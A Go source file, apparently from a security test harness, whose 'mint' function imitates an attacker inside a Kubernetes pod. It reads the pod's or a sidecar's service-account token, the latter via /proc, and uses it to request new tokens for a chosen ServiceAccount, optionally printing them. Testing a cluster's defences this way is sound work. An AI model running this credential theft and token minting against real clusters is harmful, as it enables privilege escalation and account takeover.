package main

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// ownCredential is where a pod's automounted credential is, and the sidecar's in the sidecar's own file system.
const ownCredential = "/var/run/secrets/kubernetes.io/serviceaccount" //nolint:gosec // a path

// sidecarCredential is where the sidecar's credential is, for a pod that shares its process namespace.
func sidecarCredential() (string, error) {
	pids, err := processes("/podtoken-sidecar")
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("/proc/%d/root%s", pids[0], ownCredential), nil
}

// minted is what the API server answered, without the token unless it was asked for.
type minted struct {
	Code      int      `json:"code"`
	Message   string   `json:"message,omitempty"`
	Audiences []string `json:"audiences,omitempty"`
	Token     string   `json:"token,omitempty"`
}

// mint sends a TokenRequest as an attacker inside the pod would: with a credential that it finds there. Flags:
//
//	-sidecar          with the sidecar's credential, through /proc, instead of the pod's automounted one
//	-account NS/NAME  the ServiceAccount that the token is to be of
//	-show             prints the token too
//
// The argument is the spec of the TokenRequest, as JSON.
func mint(args []string) (*minted, error) {
	flags := flag.NewFlagSet("mint", flag.ContinueOnError)
	sidecar := flags.Bool("sidecar", false, "")
	account := flags.String("account", "", "")
	show := flags.Bool("show", false, "")
	if err := flags.Parse(args); err != nil {
		return nil, err
	}
	namespace, name, ok := strings.Cut(*account, "/")
	if flags.NArg() != 1 || !ok {
		return nil, errors.New("mint wants -account NS/NAME and the spec of a TokenRequest")
	}
	directory := ownCredential
	if *sidecar {
		var err error
		if directory, err = sidecarCredential(); err != nil {
			return nil, err
		}
	}
	credential, err := os.ReadFile(filepath.Join(directory, "token"))
	if err != nil {
		return nil, err
	}
	authority, err := os.ReadFile(filepath.Join(directory, "ca.crt"))
	if err != nil {
		return nil, err
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(authority)
	client := &http.Client{
		Timeout:   30 * time.Second,
		Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS13}},
	}
	host := net.JoinHostPort(os.Getenv("KUBERNETES_SERVICE_HOST"), os.Getenv("KUBERNETES_SERVICE_PORT"))
	url := "https://" + host + "/api/v1/namespaces/" + namespace + "/serviceaccounts/" + name + "/token"
	body := `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":` + flags.Arg(0) + `}`
	request, err := http.NewRequest(http.MethodPost, url, bytes.NewBufferString(body)) //nolint:gosec,noctx // the client has a timeout, and an attacker goes where it wants
	if err != nil {
		return nil, err
	}
	request.Header.Set("Authorization", "Bearer "+string(credential))
	request.Header.Set("Content-Type", "application/json")
	response, err := client.Do(request) //nolint:gosec // the same
	if err != nil {
		return nil, err
	}
	defer func() { _ = response.Body.Close() }()
	var answer struct {
		Message string `json:"message"`
		Spec    struct {
			Audiences []string `json:"audiences"`
		} `json:"spec"`
		// Of a TokenRequest an object, of an error the word "Failure".
		Status json.RawMessage `json:"status"`
	}
	if err := json.NewDecoder(response.Body).Decode(&answer); err != nil {
		return nil, err
	}
	result := &minted{Code: response.StatusCode, Message: answer.Message, Audiences: answer.Spec.Audiences}
	if *show && response.StatusCode == http.StatusCreated {
		var status struct {
			Token string `json:"token"`
		}
		if err := json.Unmarshal(answer.Status, &status); err != nil {
			return nil, err
		}
		result.Token = status.Token
	}
	return result, nil
}
